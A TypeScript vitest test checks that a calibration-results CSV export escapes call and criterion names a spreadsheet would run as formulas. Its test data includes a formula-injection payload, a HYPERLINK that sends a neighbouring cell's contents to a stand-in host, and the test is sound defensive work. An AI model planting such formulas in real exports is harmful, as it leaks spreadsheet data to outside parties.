/** The calibration results CSV (docs/console.md, "Calibration") opened in a spreadsheet: upstream text never runs as a formula. */
import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { calibrationResultsCsv } from '../../../src/hub/review/calibration/calibration-csv.js';
import type { CalibrationView } from '../../../src/hub/review/calibration/calibration-results.js';

describe('calibrationResultsCsv', () => {
  it("escapes a call's or a criterion's name that a spreadsheet would read as a formula", () => {
    const transcriptionId = randomUUID();
    const criterionId = randomUUID();
    const userId = randomUUID();
    const view: CalibrationView = {
      id: randomUUID(),
      title: 'Q1',
      deadline: null,
      createdAt: new Date(),
      revealed: true,
      calls: [
        {
          transcriptionId,
          name: '=HYPERLINK("https://x.example/?"&C2,"open")',
          participant: null,
          criteria: [{ criterionId, name: '+1+1', type: 'boolean' }],
        },
      ],
      reviewers: [{ userId, name: 'Ana', email: 'ana@example.com', submitted: true }],
      mine: {},
      viewerIsReviewer: false,
      viewerSubmitted: false,
      results: {
        cells: [{ transcriptionId, criterionId, ai: 1, reviewers: { [userId]: 1 }, benchmark: 1 }],
        alignment: { [userId]: 1 },
        aiAlignment: 1,
        criteria: [{ name: '+1+1', type: 'boolean', reviewerKappa: { [userId]: -0.2 }, aiKappa: null, fleissKappa: null, benchmarked: 1 }],
      },
    };
    const csv = calibrationResultsCsv(view);
    expect(csv).toContain(`"'=HYPERLINK(""https://x.example/?""&C2,""open"")"`);
    expect(csv).toContain("'+1+1");
    expect(csv).not.toMatch(/(^|,)[=+]/m);
    expect(csv).toContain("agreement,,'+1+1,-0.200,,");
  });
});
